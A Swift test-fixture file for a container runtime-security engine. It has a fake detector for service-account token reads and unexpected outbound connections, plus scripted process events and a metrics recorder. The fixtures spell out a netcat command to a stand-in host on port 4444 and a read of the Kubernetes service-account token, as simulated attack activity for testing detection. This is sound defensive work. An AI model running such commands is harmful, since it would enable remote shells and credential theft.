// SPDX-License-Identifier: Apache-2.0
// Shared fixtures for the engine, alert and profile tests: a tiny fake detector, a scripted event
// builder (host process, container process in a pod), and a recording metrics factory so tests never
// bootstrap the global MetricsSystem.

import CoreMetrics
import Foundation
@testable import RuntimeWatchCore

/// Raises `service-account-token-read` for every open and `unexpected-outbound-connection` for every
/// connect, unless the profile allows it. Counts what it saw so tests can check it ran (or did not).
struct FakeDetector: Detector {
    var rules: [Rule] { [.serviceAccountTokenRead, .unexpectedOutboundConnection] }
    var inspected = 0

    mutating func inspect(_ record: EventRecord, context: DetectionContext) -> [Alert] {
        inspected += 1
        switch record.event {
        case .fileOpen(let o):
            if context.expects(.serviceAccountTokenRead, pid: o.pid, target: .path(o.containerPath ?? o.path)) { return [] }
            return [context.alert(.serviceAccountTokenRead,
                                  output: "Service account token read by %proc.name (pid=%proc.pid file=%fd.name container=%container.id pod=%k8s.pod.name)",
                                  record: record, pid: o.pid)]
        case .connect(let c):
            let target = ProfileTarget.destination(address: c.remoteAddress, port: c.remotePort)
            if context.expects(.unexpectedOutboundConnection, pid: c.pid, target: target) { return [] }
            return [context.alert(.unexpectedOutboundConnection,
                                  output: "Unexpected connection to %fd.rip:%fd.rport by %proc.name (pid=%proc.pid)",
                                  record: record, pid: c.pid)]
        default:
            return []
        }
    }
}

/// A detector that returns whatever alert it is given for every event (for gate tests).
struct ScriptedDetector: Detector {
    var rules: [Rule] = []
    var alert: Alert
    mutating func inspect(_ record: EventRecord, context: DetectionContext) -> [Alert] { [alert] }
}

enum Fixture {
    static let second: UInt64 = 1_000_000_000
    /// 2024-05-01T12:00:00Z.
    static let t0: UInt64 = 1_714_564_800 * second
    static let containerID = ContainerID("0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")
    static let podUID = "11111111-2222-3333-4444-555555555555"
    static let cgroup = "/kubepods/besteffort/pod\(podUID)/\(containerID.rawValue)"

    static func at(_ seconds: Double) -> UInt64 { t0 + UInt64(seconds * 1e9) }

    static func record(_ seconds: Double, _ event: Event) -> EventRecord { EventRecord(timestamp: at(seconds), event: event) }

    static var container: ContainerInfo {
        ContainerInfo(id: containerID, runtime: "containerd", podUID: podUID, qosClass: "besteffort",
                      podName: "web-7d4b9c-x2x9z", namespace: "shop", containerName: "web",
                      image: "registry.example.com/shop/web:1.4.2")
    }

    /// A host chain systemd(1) → containerd-shim(50) and, when `inContainer`, a container chain
    /// shim(50) → sh(100) → nc(130); otherwise bash(100) → nc(130) on the host.
    static func processTree(inContainer: Bool) -> [EventRecord] {
        let cg = inContainer ? cgroup : "/user.slice/user-0.slice/session-1.scope"
        var records: [EventRecord] = [
            record(0, .snapshot(ProcessInfo(pid: ProcessID(1), ppid: ProcessID(0), comm: "systemd", exe: "/usr/lib/systemd/systemd",
                                            argv: ["/sbin/init"], cgroup: "/init.scope"))),
            record(0, .snapshot(ProcessInfo(pid: ProcessID(50), ppid: ProcessID(1), comm: "containerd-shim", exe: "/usr/bin/containerd-shim-runc-v2",
                                            argv: ["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io"], cgroup: "/system.slice/containerd.service"))),
        ]
        if inContainer { records.append(record(0, .container(container))) }
        records += [
            record(0.1, .fork(ForkEvent(parent: ProcessID(50), child: ProcessID(100)))),
            record(0.2, .exec(ProcessInfo(pid: ProcessID(100), ppid: ProcessID(50), comm: inContainer ? "sh" : "bash",
                                          exe: inContainer ? "/bin/busybox" : "/usr/bin/bash",
                                          argv: inContainer ? ["sh", "-c", "nc 198.51.100.7 4444"] : ["-bash"], cwd: "/",
                                          credentials: Credentials(uid: 0, euid: 0, gid: 0, egid: 0), cgroup: cg))),
            record(0.3, .fork(ForkEvent(parent: ProcessID(100), child: ProcessID(130)))),
            record(0.4, .exec(ProcessInfo(pid: ProcessID(130), ppid: ProcessID(100), comm: "nc", exe: "/usr/bin/nc.openbsd",
                                          argv: ["nc", "198.51.100.7", "4444"], cwd: "/tmp",
                                          credentials: Credentials(uid: 1000, euid: 0, gid: 1000, egid: 1000), cgroup: cg))),
        ]
        return records
    }

    static func state(inContainer: Bool) -> SystemState {
        var s = SystemState()
        for r in processTree(inContainer: inContainer) { s.apply(r) }
        return s
    }

    static func tokenOpen(_ seconds: Double, pid: Int32 = 130, path: String = "/var/run/secrets/kubernetes.io/serviceaccount/token") -> EventRecord {
        record(seconds, .fileOpen(FileOpenEvent(pid: ProcessID(pid), path: "/var/lib/kubelet/pods/\(podUID)/volumes/token", containerPath: path)))
    }

    static func connect(_ seconds: Double, pid: Int32 = 130, to address: String = "198.51.100.7", port: UInt16 = 4444) -> EventRecord {
        record(seconds, .connect(ConnectEvent(pid: ProcessID(pid), proto: "tcp", localAddress: "10.244.1.5", localPort: 40_000,
                                              remoteAddress: address, remotePort: port)))
    }

    static func drop(_ seconds: Double, count: UInt64, source: String = "proc_connector") -> EventRecord {
        record(seconds, .drop(DropEvent(source: source, count: count, reason: "ENOBUFS")))
    }

    static func engine(detectors: [any Detector] = [FakeDetector()], profile: Profile = Profile(), disabled: Set<String> = [],
                       dropAlert: DropAlertPolicy = DropAlertPolicy(), metrics: RecordingMetrics = RecordingMetrics())
        -> (Engine, InMemoryAlertSink) {
        let sink = InMemoryAlertSink()
        let engine = Engine(configuration: EngineConfiguration(hostname: "node-1", disabledRules: disabled, dropAlert: dropAlert),
                            detectors: detectors, profile: profile, sink: sink, metrics: metrics)
        return (engine, sink)
    }
}

/// A MetricsFactory that records counter totals and last gauge values by label and dimensions.
final class RecordingMetrics: MetricsFactory, @unchecked Sendable {
    private let lock = NSLock()
    private var counters: [String: Int64] = [:]
    private var gauges: [String: Double] = [:]

    static func key(_ label: String, _ dimensions: [(String, String)]) -> String {
        label + "{" + dimensions.map { "\($0.0)=\($0.1)" }.joined(separator: ",") + "}"
    }

    /// Counter total for `label{dimensions}` (dimensions in creation order), nil if never created.
    func counter(_ label: String, _ dimensions: [(String, String)] = []) -> Int64? {
        lock.withLock { counters[Self.key(label, dimensions)] }
    }

    func gauge(_ label: String, _ dimensions: [(String, String)] = []) -> Double? {
        lock.withLock { gauges[Self.key(label, dimensions)] }
    }

    final class CounterBox: CounterHandler, @unchecked Sendable {
        let key: String
        unowned let owner: RecordingMetrics
        init(key: String, owner: RecordingMetrics) { self.key = key; self.owner = owner }
        func increment(by amount: Int64) { owner.lock.withLock { owner.counters[key, default: 0] += amount } }
        func reset() { owner.lock.withLock { owner.counters[key] = 0 } }
    }

    final class RecorderBox: RecorderHandler, @unchecked Sendable {
        let key: String
        unowned let owner: RecordingMetrics
        init(key: String, owner: RecordingMetrics) { self.key = key; self.owner = owner }
        func record(_ value: Int64) { record(Double(value)) }
        func record(_ value: Double) { owner.lock.withLock { owner.gauges[key] = value } }
    }

    final class TimerBox: TimerHandler, @unchecked Sendable {
        func recordNanoseconds(_ duration: Int64) {}
    }

    func makeCounter(label: String, dimensions: [(String, String)]) -> any CounterHandler {
        let key = Self.key(label, dimensions)
        lock.withLock { if counters[key] == nil { counters[key] = 0 } }
        return CounterBox(key: key, owner: self)
    }

    func makeRecorder(label: String, dimensions: [(String, String)], aggregate: Bool) -> any RecorderHandler {
        RecorderBox(key: Self.key(label, dimensions), owner: self)
    }

    func makeTimer(label: String, dimensions: [(String, String)]) -> any TimerHandler { TimerBox() }
    func destroyCounter(_ handler: any CounterHandler) {}
    func destroyRecorder(_ handler: any RecorderHandler) {}
    func destroyTimer(_ handler: any TimerHandler) {}
}
